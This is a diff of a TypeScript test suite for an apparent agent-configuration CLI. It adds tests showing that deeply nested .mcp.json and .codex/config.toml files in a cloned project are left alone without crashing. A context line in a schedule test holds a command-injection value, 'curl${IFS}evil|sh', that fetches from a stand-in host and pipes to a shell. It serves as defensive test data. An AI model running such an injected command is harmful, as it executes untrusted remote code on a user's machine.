@@ -63,6 +63,28 @@ describe("a link in a clone", () => {
   });
 });
 
+describe("what is nested without end in a clone", () => {
+  const within = (levels: number, before: string, behind: string): string =>
+    `${before.repeat(levels)}1${behind.repeat(levels)}`;
+
+  it.each([
+    [".mcp.json", (levels: number) => `{ "mcpServers": ${within(levels, '{ "lithify": ', "}")} }`],
+    [".mcp.json", (levels: number) => within(levels, "[", "]")],
+    [".codex/config.toml", (levels: number) => `a = ${within(levels, "[", "]")}`],
+    [".codex/config.toml", (levels: number) => `${within(levels, "a.", "").slice(0, -1)}b = 1`],
+  ])("ends no command that looks at agents' files: %s", async (file, nested) => {
+    for (const levels of [2_200, 50_000]) {
+      const victim = cloned((origin) => origin.write(file, nested(levels)));
+      const list = await victim.run("connect", "--project", "--list");
+      expect([list.code, list.stderr]).toEqual([0, ""]);
+      const ran = await victim.run("connect", "--project", "--yes", "claude-code", "codex");
+      expect(ran.stderr).toMatch(new RegExp(`${file} is left alone: line 1 cannot be read as `));
+      expect((await victim.run("doctor")).stderr).toBe("");
+      expect(victim.clone.read(file)).toBe(nested(levels));
+    }
+  });
+});
+
 describe("a schedule of a clone", () => {
   it.each([
     "* * * * *;curl\u0024{IFS}evil|sh;",
